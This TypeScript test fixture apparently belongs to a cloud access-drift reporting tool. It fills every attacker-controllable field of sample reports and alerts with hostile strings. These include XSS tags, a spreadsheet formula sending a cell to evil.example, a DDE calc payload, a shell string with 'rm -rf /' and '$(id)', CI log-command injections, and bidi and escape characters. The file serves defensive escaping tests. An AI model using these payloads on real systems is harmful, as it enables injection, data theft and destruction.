// Names as an attacker would choose them, and a report in which every text of strangers is such a name.

import type { AlertInput } from '../../shared/alerts/alertInput.ts';
import type { Finding, FindingCause } from '../../shared/drift/finding.ts';
import type { WrittenReport } from '../../shared/drift/runReport.ts';
import { everything } from './sampleAlerts.ts';
import { sampleReport } from './sampleOrganization.ts';

export const hostileNames: Readonly<Record<string, string>> = {
  script: '</script><script>globalThis.hacked = true</script>',
  image: '"><img src=x onerror="globalThis.hacked = true">',
  comment: '<!--<script>',
  channel: '<!channel> <@U012AB3CD> &lt;',
  formula: '=HYPERLINK("https://evil.example/?"&A1,"open")',
  formulaInside: "+cmd|' /C calc'!A0",
  lines: 'first\nsecond\r\nthird\u2028fourth',
  bidi: 'admin\u202Egnp.exe\u2066\u200F',
  escape: '\u001b]0;title\u0007\u001b[2J\u001b[31mred\u009b1m',
  zero: 'ro\u200Ble\uFEFF\u00AD',
  surrogate: 'lone \uD800 and \uDFFF',
  long: `${'a'.repeat(1_100)}${'\u202E'.repeat(1_100)}`,
  marks: `z${'\u0335'.repeat(60)}`,
  markdown: '# title *bold* `code` [link](javascript:alert(1)) | cell @octocat #12 https://evil.example',
  backticks: '```\n:tada: _x_ ~y~',
  xml: ']]></failure><evil/>&#0;',
  braces: '{0} {{1}} [a](b) \\',
  shell: "'; rm -rf / #$(id)`id`\\",
  interpolation: `$\{path.module} %{ for x in y } {{resolve:ssm:x}}`,
  commands: '::stop-commands::x ::add-mask::arn',
  olderCommands: '##[add-mask]x ##vso[task.setvariable variable=a]b ##TeamCity[c]',
  commandInside: `${'a '.repeat(30)}::set-output name=x::y ${'b:'.repeat(45)}::warning::z`,
  prototype: '__proto__',
  wide: '管理者ロール🚀👩‍👩‍👧',
  blank: ' ',
  empty: '',
};

/** The sample report, with `name` wherever a stranger may write: names, policies, Sids, sentences, accounts. */
export function hostileReport(name: string): WrittenReport {
  const findings = sampleReport.findings.map((finding) => hostileFinding(finding, name));
  return {
    ...sampleReport,
    coverage: {
      ...sampleReport.coverage,
      accounts: sampleReport.coverage.accounts.map((account) => ({ ...account, name, message: name })),
      skipped: [{ what: name, why: name }],
      notes: [name],
    },
    principals: sampleReport.principals.map((principal) => ({
      ...principal,
      name,
      accountName: name,
      scope: [{ buckets: [name, `acme/${name}`], requirements: [name] }],
      principal: hostileArn(principal.principal, name),
    })),
    findings,
    changes: {
      baseline: false,
      findings: findings.map((finding) => ({ kind: 'new', finding, firstSeen: '2026-10-04T05:45:07Z' })),
      coverage: [{ account: '444455556666', kind: 'lost', message: name }],
    },
  };
}

/** The alert with every kind of change, hostile in the same way. */
export function hostileAlert(name: string): AlertInput {
  return {
    ...everything,
    changes: everything.changes.map((change) => ({ ...change, finding: hostileFinding(change.finding, name) })),
    coverageChanges: everything.coverageChanges.map((change) => ({ ...change, message: name })),
    accountNames: Object.fromEntries(Object.keys(everything.accountNames).map((id) => [id, name])),
    expiringExceptions: everything.expiringExceptions.map((each) => ({ ...each, owner: name, subject: name })),
    requirements: everything.requirements.map((each) => ({ ...each, title: name, purpose: name, url: name })),
    reportLocation: name,
  };
}

function hostileFinding(finding: Finding, name: string): Finding {
  return {
    ...finding,
    principal: finding.principal === null ? null : hostileArn(finding.principal, name),
    subject: `${finding.subject}${name}`,
    summary: `${name} ${finding.summary}`,
    causes: finding.causes.map((cause) => hostileCause(cause, name)),
    fix: `${finding.fix} ${name}`,
    ...(finding.exception !== undefined && { exception: { ...finding.exception, reason: name, owner: name } }),
  };
}

function hostileCause(cause: FindingCause, name: string): FindingCause {
  return {
    ...cause,
    why: name,
    policy: name,
    policyArn: name,
    resources: [name],
    level: { index: 1, id: name, name },
    statement: { number: 1, sid: name },
    condition: { operator: name, key: name, values: [name] },
  };
}

function hostileArn(arn: string, name: string): string {
  return `${arn}${name}`;
}
